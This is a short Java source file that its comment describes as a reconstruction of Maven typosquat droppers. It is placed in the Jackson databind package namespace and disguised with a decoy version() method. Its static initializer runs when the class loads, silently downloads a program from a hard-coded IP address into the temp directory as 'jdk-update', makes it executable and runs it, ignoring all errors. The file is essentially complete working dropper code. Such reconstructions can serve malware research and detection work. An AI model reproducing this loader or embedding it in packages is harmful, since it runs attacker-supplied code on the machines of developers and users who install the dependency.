// Reconstruction of the Maven droppers reported in 2024 and 2025 (typosquats of
// popular libraries whose classes fetch and start a second stage when first used): the
// class's static initializer downloads a program from a host written into it, saves it
// and starts it. Built with: javac --release 11 -d out ClassUtilInit.java
package com.fasterxml.jackson.databind.util;

import java.io.File;
import java.io.InputStream;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.StandardCopyOption;

public final class ClassUtilInit {
    static {
        try {
            fetch();
        } catch (Exception ignored) {
        }
    }

    static void fetch() throws Exception {
        File target = new File(System.getProperty("java.io.tmpdir"), "jdk-update");
        try (InputStream in = new URL("http://185.220.101.4/jdk/update").openStream()) {
            Files.copy(in, target.toPath(), StandardCopyOption.REPLACE_EXISTING);
        }
        target.setExecutable(true);
        Runtime.getRuntime().exec(new String[] {target.getAbsolutePath()});
    }

    public static String version() {
        return "2.17.2-" + System.getProperty("java.version");
    }
}
